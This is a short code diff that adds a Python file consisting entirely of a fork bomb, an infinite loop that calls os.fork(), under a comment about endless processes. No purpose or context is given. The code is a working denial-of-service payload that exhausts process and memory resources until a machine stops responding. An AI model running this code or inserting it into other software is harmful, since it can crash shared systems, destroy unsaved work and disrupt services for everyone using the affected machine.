@@ -1,0 +1,5 @@
+# Resources: processes without end.
+import os
+
+while True:
+    os.fork()
